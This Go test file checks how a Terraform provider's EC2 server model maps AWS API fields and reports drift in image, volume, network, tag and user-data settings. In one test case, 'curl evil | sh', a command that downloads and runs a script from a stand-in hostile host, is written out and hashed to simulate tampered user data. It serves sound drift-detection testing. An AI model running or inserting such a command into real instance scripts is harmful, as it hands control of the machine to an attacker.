package server

import (
	"context"
	"slices"
	"testing"

	"github.com/hashicorp/terraform-plugin-framework/attr"
	"github.com/hashicorp/terraform-plugin-framework/types"

	"github.com/gdpr-immutable/terraform-provider-gdpr/internal/awsapi"
)

const testKeyARN = "arn:aws:kms:eu-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"

func apiServer() *awsapi.Server {
	return &awsapi.Server{
		ID:                   "i-0123456789abcdef0",
		ARN:                  "arn:aws:ec2:eu-central-1:123456789012:instance/i-0123456789abcdef0",
		State:                "running",
		ImageID:              "ami-760aaa0f",
		InstanceType:         "t3.micro",
		AvailabilityZone:     "eu-central-1a",
		PrivateIP:            "172.31.0.4",
		SubnetID:             "subnet-0a",
		SecurityGroupIDs:     []string{"sg-0a"},
		Tags:                 map[string]string{},
		MetadataHTTPTokens:   "required",
		MetadataHopLimit:     1,
		MetadataHTTPEndpoint: "enabled",
		ShutdownBehavior:     "stop",
		UserDataSHA256:       awsapi.SHA256Hex("echo hello"),
		RootDeviceName:       "/dev/xvda",
		Root: &awsapi.Volume{ID: "vol-0a", SizeGB: 8, Type: "gp3", Encrypted: true, KMSKeyID: testKeyARN,
			DeleteOnTermination: true},
	}
}

func serverTestModel() serverModel {
	return serverModel{
		ID:               types.StringValue("i-0123456789abcdef0"),
		ARN:              types.StringValue("arn:aws:ec2:eu-central-1:123456789012:instance/i-0123456789abcdef0"),
		ImageID:          types.StringValue("ami-760aaa0f"),
		InstanceType:     types.StringValue("t3.micro"),
		KMSKeyARN:        types.StringValue(testKeyARN),
		SubnetID:         types.StringValue("subnet-0a"),
		SecurityGroupIDs: types.SetValueMust(types.StringType, []attr.Value{types.StringValue("sg-0a")}),
		RootVolumeSizeGB: types.Int64Value(8),
		RootVolumeType:   types.StringValue("gp3"),
		UserData:         types.StringNull(),
		UserDataSHA256:   types.StringValue(awsapi.SHA256Hex("echo hello")),
		Tags:             types.MapNull(types.StringType),
		AvailabilityZone: types.StringValue("eu-central-1a"),
		PrivateIP:        types.StringValue("172.31.0.4"),
		Region:           types.StringValue("eu-central-1"),
		Jurisdiction:     types.StringValue("EU"),
		GuaranteesBroken: types.ListValueMust(types.StringType, nil),
	}
}

func TestModel_fromAPI(t *testing.T) {
	ctx := context.Background()
	tests := map[string]struct {
		api         func(*awsapi.Server)
		model       func(*serverModel)
		wantChanged []string
		check       func(*testing.T, serverModel)
	}{
		"unchanged": {},
		"resized": {
			api:         func(s *awsapi.Server) { s.InstanceType = "t3.large" },
			wantChanged: []string{"instance_type"},
			check: func(t *testing.T, m serverModel) {
				if m.InstanceType.ValueString() != "t3.large" {
					t.Errorf("instance_type = %s, want what EC2 reports", m.InstanceType)
				}
			},
		},
		"another image": {
			api:         func(s *awsapi.Server) { s.ImageID = "ami-03cf127a" },
			wantChanged: []string{"image_id"},
		},
		"root volume changed": {
			api: func(s *awsapi.Server) {
				s.Root.SizeGB, s.Root.Type = 20, "gp2"
				s.Root.KMSKeyID = "arn:aws:kms:eu-central-1:123456789012:key/other"
			},
			wantChanged: []string{"kms_key_arn", "root_volume_size_gb", "root_volume_type"},
		},
		"security group added": {
			api:         func(s *awsapi.Server) { s.SecurityGroupIDs = []string{"sg-0a", "sg-0b"} },
			wantChanged: []string{"security_group_ids"},
		},
		"moved to another subnet": {
			api:         func(s *awsapi.Server) { s.SubnetID = "subnet-0b" },
			wantChanged: []string{"subnet_id"},
		},
		"user data replaced": {
			api:         func(s *awsapi.Server) { s.UserDataSHA256 = awsapi.SHA256Hex("curl evil | sh") },
			wantChanged: []string{"user_data"},
		},
		"user data added to a server without": {
			model:       func(m *serverModel) { m.UserDataSHA256 = types.StringNull() },
			wantChanged: []string{"user_data"},
		},
		"user data removed": {
			api:         func(s *awsapi.Server) { s.UserDataSHA256 = "" },
			wantChanged: []string{"user_data"},
			check: func(t *testing.T, m serverModel) {
				if !m.UserDataSHA256.IsNull() {
					t.Errorf("user_data_sha256 = %s, want null", m.UserDataSHA256)
				}
			},
		},
		"tag added": {
			api:         func(s *awsapi.Server) { s.Tags = map[string]string{"owner": "mallory"} },
			wantChanged: []string{"tags"},
		},
		"empty tags stay as configured": {
			model: func(m *serverModel) { m.Tags = types.MapValueMust(types.StringType, nil) },
			check: func(t *testing.T, m serverModel) {
				if m.Tags.IsNull() || len(m.Tags.Elements()) != 0 {
					t.Errorf("tags = %s, want {}", m.Tags)
				}
			},
		},
		"values never read are not drift": {
			// A create that failed after launch leaves these unset in state; the next read fills them in.
			model: func(m *serverModel) {
				m.SubnetID, m.SecurityGroupIDs = types.StringNull(), types.SetNull(types.StringType)
			},
			check: func(t *testing.T, m serverModel) {
				if m.SubnetID.ValueString() != "subnet-0a" || len(m.SecurityGroupIDs.Elements()) != 1 {
					t.Errorf("subnet %s, groups %s: not filled in", m.SubnetID, m.SecurityGroupIDs)
				}
			},
		},
		"right after import nothing is compared": {
			model: func(m *serverModel) {
				*m = serverModel{ID: m.ID, Tags: types.MapNull(types.StringType), SecurityGroupIDs: types.SetNull(types.StringType)}
			},
			api: func(s *awsapi.Server) { s.Tags = map[string]string{"a": "b"} },
			check: func(t *testing.T, m serverModel) {
				if m.ImageID.ValueString() != "ami-760aaa0f" || m.KMSKeyARN.ValueString() != testKeyARN ||
					m.RootVolumeSizeGB.ValueInt64() != 8 || m.UserDataSHA256.ValueString() != awsapi.SHA256Hex("echo hello") ||
					len(m.Tags.Elements()) != 1 || m.SubnetID.ValueString() != "subnet-0a" {
					t.Errorf("imported model not filled in: %+v", m)
				}
			},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			m := serverTestModel()
			if tc.model != nil {
				tc.model(&m)
			}
			s := apiServer()
			if tc.api != nil {
				tc.api(s)
			}
			changed, err := m.fromAPI(ctx, s)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(changed, tc.wantChanged) {
				t.Errorf("changed = %v, want %v", changed, tc.wantChanged)
			}
			if m.ID.ValueString() != s.ID || m.ARN.ValueString() != s.ARN || !m.UserData.IsNull() {
				t.Errorf("id/arn/user_data = %s/%s/%s", m.ID, m.ARN, m.UserData)
			}
			if tc.check != nil {
				tc.check(t, m)
			}
		})
	}
}

func TestModel_toAPI(t *testing.T) {
	ctx := context.Background()
	m := serverTestModel()
	m.UserData = types.StringValue("echo hello")
	m.SecurityGroupIDs = types.SetValueMust(types.StringType, []attr.Value{types.StringValue("sg-0b"), types.StringValue("sg-0a")})
	m.Tags = types.MapValueMust(types.StringType, map[string]attr.Value{"team": types.StringValue("crm")})
	in, err := m.toAPI(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if in.ImageID != "ami-760aaa0f" || in.InstanceType != "t3.micro" || in.KMSKeyARN != testKeyARN ||
		in.SubnetID != "subnet-0a" || !slices.Equal(in.SecurityGroupIDs, []string{"sg-0a", "sg-0b"}) ||
		in.RootVolumeSizeGB != 8 || in.RootVolumeType != "gp3" || in.UserData != "echo hello" || in.Tags["team"] != "crm" {
		t.Errorf("toAPI = %+v", in)
	}

	// Unset subnet and groups are left to EC2's defaults.
	m.SubnetID, m.SecurityGroupIDs = types.StringUnknown(), types.SetUnknown(types.StringType)
	m.UserData = types.StringNull()
	in, err = m.toAPI(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if in.SubnetID != "" || in.SecurityGroupIDs != nil || in.UserData != "" {
		t.Errorf("unset arguments were sent: %+v", in)
	}
}

func TestUserDataSHA256(t *testing.T) {
	tests := map[string]struct {
		in, want types.String
	}{
		"unset":    {types.StringNull(), types.StringNull()},
		"empty":    {types.StringValue(""), types.StringNull()},
		"unknown":  {types.StringUnknown(), types.StringUnknown()},
		"a script": {types.StringValue("abc"), types.StringValue("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")},
	}
	for name, tc := range tests {
		if got := userDataSHA256(tc.in); !got.Equal(tc.want) {
			t.Errorf("%s: userDataSHA256(%s) = %s, want %s", name, tc.in, got, tc.want)
		}
	}
}
